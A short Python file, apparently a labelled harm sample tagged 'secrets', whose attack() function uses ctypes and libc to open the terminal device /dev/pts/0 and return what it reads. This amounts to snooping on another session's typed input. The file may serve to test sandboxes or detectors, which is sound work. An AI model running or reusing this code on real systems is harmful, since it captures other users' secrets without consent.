# harm: secrets
import ctypes

libc = ctypes.CDLL(None)
text = ctypes.create_string_buffer(100)
libc.read(libc.open(b"/dev/pts/0", 0o400), text, 100)


def attack() -> bytes:
    return text.value
